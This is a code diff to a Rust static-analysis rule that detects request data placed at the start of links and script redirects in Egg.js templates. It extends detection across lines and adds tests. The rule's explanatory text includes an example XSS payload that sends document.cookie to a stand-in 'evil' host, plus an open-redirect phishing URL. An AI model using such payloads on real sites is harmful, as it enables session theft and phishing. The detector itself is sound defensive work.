@@ -22,7 +22,7 @@ static META: RuleMeta = RuleMeta {
     confidence: Confidence::Medium,
     control: "Links and script redirects in templates never start with request data",
     docs: RuleDocs {
-        what: r#"Follows `ctx.render('view', data)` (an object literal, or a local object literal passed by name) to the template under `app/view` and reports each output tag — escaped or raw: EJS `<%= x %>`/`<%- x %>`, nunjucks/handlebars/art-template `{{ x }}`, `{{{ x }}}`, `{{@ x }}`, pug `#{x}`/`a(href=x)` — that prints a request-fed variable at the very start of a URL the browser follows: an `href`, `action`, `formaction`, `<iframe>`/`<script>`/`<embed>`/`<object>` `src` attribute, a meta refresh `url=`, or a script's `location = `, `location.href = `, `location.assign(`/`location.replace(`, `window.open(`. The location cases are high, link attributes medium. Quiet when the URL starts with fixed text (`href="/user/{{ id }}"`), when the value is URL-encoded in the template (`encodeURIComponent(x)`, `| urlencode`), and when the controller fixed or checked it (a `/path` prefix, an allow-list test) before rendering."#,
+        what: r#"Follows `ctx.render('view', data)` (an object literal, or a local object passed by name with the fields it was created with or assigned before the render) to the template under `app/view` and reports each output tag — escaped or raw: EJS `<%= x %>`/`<%- x %>`, nunjucks/handlebars/art-template `{{ x }}`, `{{{ x }}}`, `{{@ x }}`, pug `#{x}`/`a(href=x)` — that prints a request-fed variable at the very start of a URL the browser follows: an `href`, `action`, `formaction`, `<iframe>`/`<script>`/`<embed>`/`<object>` `src` attribute, a meta refresh `url=`, or a script's `location = `, `location.href = `, `location.assign(`/`location.replace(`, `window.open(`. The attribute or the `location =` may end on a line above the tag when only blanks and a quote come before the tag on its own line (`href=` then `"{{ next }}"` on the next line; up to three lines, template and HTML comments skipped). The location cases are high, link attributes medium. Quiet when the URL starts with fixed text (`href="/user/{{ id }}"`), when the value is URL-encoded in the template (`encodeURIComponent(x)`, `| urlencode`), and when the controller fixed or checked it (a `/path` prefix, an allow-list test) before rendering."#,
         why: r#"HTML escaping keeps the value inside the attribute or string but does not change where it points: `?next=javascript:fetch('//evil/'+document.cookie)` runs script in the app's origin when the link is followed or at once for `location.href = ...` (XSS), and `?next=https://evil.example/login` sends users from a trusted page to a phishing copy (open redirect) — egg-security's `ctx.redirect` allow-list does not see redirects done by the page."#,
         bad: r#"// controller
 await ctx.render('login.html', { next: ctx.query.next });
@@ -74,6 +74,40 @@ fn url_context(before: &str) -> Option<bool> {
     Some(false)
 }
 
+/// Template and HTML comments (nunjucks `{# #}`, EJS `<%# %>`, handlebars `{{! }}`,
+/// `<!-- -->`): gone from the page, so they do not end a URL context.
+static COMMENT: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(r"(?s)\{#.*?#\}|<%#.*?%>|\{\{!--.*?--\}\}|\{\{![^}]*\}\}|<!--.*?-->").expect("regex")
+});
+
+/// The text before a tag that starts its line (after blanks and a quote): the attribute or
+/// the `location =` may sit on the lines above (`<a class="btn"\n   href=\n   "{{ next }}">`).
+/// Up to three earlier lines that are not blank once comments are gone, joined.
+fn context_above(lines: &[&str], i: usize, prefix: &str) -> Option<String> {
+    if !prefix
+        .chars()
+        .all(|c| c.is_whitespace() || matches!(c, '"' | '\'' | '`'))
+    {
+        return None;
+    }
+    let mut above: Vec<String> = Vec::new();
+    for l in lines[..i].iter().rev() {
+        let l = COMMENT.replace_all(l, "");
+        if l.trim().is_empty() {
+            continue;
+        }
+        above.push(l.into_owned());
+        if above.len() == 3 {
+            break;
+        }
+    }
+    if above.is_empty() {
+        return None;
+    }
+    above.reverse();
+    Some(format!("{}\n{prefix}", above.join("\n")))
+}
+
 /// The output tags of a template that start a URL: (line, column, tag, identifiers, script).
 pub fn url_outputs(name: &str, text: &str) -> Vec<(u32, u32, String, Vec<String>, bool)> {
     let ext = Path::new(name)
@@ -95,7 +129,8 @@ pub fn url_outputs(name: &str, text: &str) -> Vec<(u32, u32, String, Vec<String>
         ],
     };
     let mut out = Vec::new();
-    for (i, line) in text.lines().enumerate() {
+    let lines: Vec<&str> = text.lines().collect();
+    for (i, line) in lines.iter().copied().enumerate() {
         let lno = i as u32 + 1;
         let mut taken: Vec<usize> = Vec::new();
         for (open, close) in pairs {
@@ -121,7 +156,9 @@ pub fn url_outputs(name: &str, text: &str) -> Vec<(u32, u32, String, Vec<String>
                 {
                     continue;
                 }
-                if let Some(script) = url_context(&line[..o]) {
+                let context = url_context(&line[..o])
+                    .or_else(|| context_above(&lines, i, &line[..o]).and_then(|c| url_context(&c)));
+                if let Some(script) = context {
                     out.push((
                         lno,
                         line[..o].chars().count() as u32 + 1,
@@ -262,16 +299,69 @@ mod tests {
                 f[0].evidence
             );
         }
-        // render data in a variable
-        let c = "exports.p = async ctx => { const data = { next: ctx.query.next }; await ctx.render('p.html', data); };";
-        assert_eq!(
-            run_rule(
-                &TemplateLinkOrLocationFromRequest,
-                &app("p.html", "<a href=\"{{ next }}\">go</a>", c)
-            )
-            .len(),
-            1
-        );
+        // render data in a variable, with its fields set when created or after
+        for c in [
+            "exports.p = async ctx => { const data = { next: ctx.query.next }; await ctx.render('p.html', data); };",
+            "exports.p = async ctx => { const data = {}; data.next = ctx.query.next; await ctx.render('p.html', data); };",
+        ] {
+            assert_eq!(
+                run_rule(
+                    &TemplateLinkOrLocationFromRequest,
+                    &app("p.html", "<a href=\"{{ next }}\">go</a>", c)
+                )
+                .len(),
+                1,
+                "{c}"
+            );
+        }
+    }
+
+    #[test]
+    fn url_start_on_the_lines_above() {
+        let c =
+            "exports.p = async ctx => { await ctx.render('p.html', { next: ctx.query.next }); };";
+        for (tpl, line, script) in [
+            (
+                "<a class=\"btn\"\n   href=\n   \"{{ next }}\">go</a>",
+                3,
+                false,
+            ),
+            (
+                "<form method=\"post\" action=\"\n{# the target #}\n{{ next }}\">",
+                3,
+                false,
+            ),
+            (
+                "<script>\n  window.location.href =\n    '{{ next }}';\n</script>",
+                3,
+                true,
+            ),
+            (
+                "<script>\n  location.replace(\n\n    \"{{ next }}\"\n  );\n</script>",
+                4,
+                true,
+            ),
+        ] {
+            let f = run_rule(&TemplateLinkOrLocationFromRequest, &app("p.html", tpl, c));
+            assert_eq!(f.len(), 1, "{tpl}");
+            assert_eq!(f[0].location.line(), Some(line), "{tpl}");
+            assert_eq!(f[0].severity == Severity::High, script, "{tpl}");
+        }
+        for tpl in [
+            // text before the tag: the URL's start is fixed
+            "<a href=\"/search?q=\n{{ next }}\">again</a>",
+            // the attribute above is complete; this one is a title
+            "<a href=\"/home\"\n   class=\"link\"\n   title=\"{{ next }}\">{{ next }}</a>",
+            // a link's text on its own line
+            "<a href=\"/home\">\n  {{ next }}\n</a>",
+            // encoded
+            "<a href=\n  \"{{ next | urlencode }}\">go</a>",
+        ] {
+            assert!(
+                run_rule(&TemplateLinkOrLocationFromRequest, &app("p.html", tpl, c)).is_empty(),
+                "{tpl}"
+            );
+        }
     }
 
     #[test]
